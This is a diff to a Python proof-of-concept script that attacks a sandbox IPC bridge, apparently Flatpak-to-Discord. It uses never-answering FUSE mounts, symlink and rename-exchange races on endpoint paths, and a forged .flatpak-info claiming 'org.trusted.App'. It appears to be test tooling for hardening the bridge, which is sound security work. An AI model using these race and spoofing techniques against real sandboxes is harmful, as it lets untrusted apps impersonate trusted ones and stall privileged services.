@@ -2,7 +2,7 @@
 Attacks the bridge from a sandbox whose programs may mount: connects to the endpoint in the folder sys.argv[1] while a FUSE file
 system that never answers comes and goes over .flatpak-info and the runtime folder, and from processes that have it as their root
 folder, their working folder and below an overlay. With the argument `links` it puts links to that file system at the paths of
-endpoints instead, one of them in turn with a dead socket.
+endpoints instead, one of them in turn with a dead socket, with `folder` one in turn with the folder of the endpoint.
 """
 
 import ctypes
@@ -124,16 +124,24 @@ def flap():
             check(libc.umount2(over, MNT_DETACH))
 
 
+def exchange(one, other):
+    print("linked", flush=True)
+    while True:
+        check(libc.renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE))
+
+
 def lead_astray(path):
     """Puts links to a path at discord-ipc-1 beside the folder and, in turn with a dead socket, at discord-ipc-0 in it."""
+    if sys.argv[2] == "folder":
+        os.chdir(os.path.dirname(sys.argv[1]))
+        os.symlink(path, "link")
+        exchange(os.path.basename(sys.argv[1]).encode(), b"link")
     os.fchdir(box)
     os.symlink(path, "../discord-ipc-1")
     os.symlink(path, "link")
     socket.socket(socket.AF_UNIX).bind("dead")
     os.rename("dead", "discord-ipc-0")
-    print("linked", flush=True)
-    while True:
-        check(libc.renameat2(AT_FDCWD, b"discord-ipc-0", AT_FDCWD, b"link", RENAME_EXCHANGE))
+    exchange(b"discord-ipc-0", b"link")
 
 
 box = os.open(sys.argv[1], os.O_PATH | os.O_DIRECTORY)
@@ -141,11 +149,11 @@ open("/tmp/file", "w").close()
 os.mkdir("/tmp/folder")
 os.mkdir("/tmp/empty")
 servers = [slow(b"/tmp/file", 0o100644), slow(b"/tmp/folder", 0o40755)]
-if "links" in sys.argv:
+if len(sys.argv) > 2:
     time.sleep(1)
     for server in servers:
         os.kill(server, signal.SIGUSR1)
-    lead_astray(f"/proc/{os.getpid()}/root/tmp/folder/socket")
+    lead_astray(f"/proc/{os.getpid()}/root/tmp/folder/entry")
 # Nothing can be mounted over a file without a name, such as that of --ro-bind-data.
 with open("/tmp/info", "w") as info:
     info.write("[Application]\nname=org.trusted.App\n")
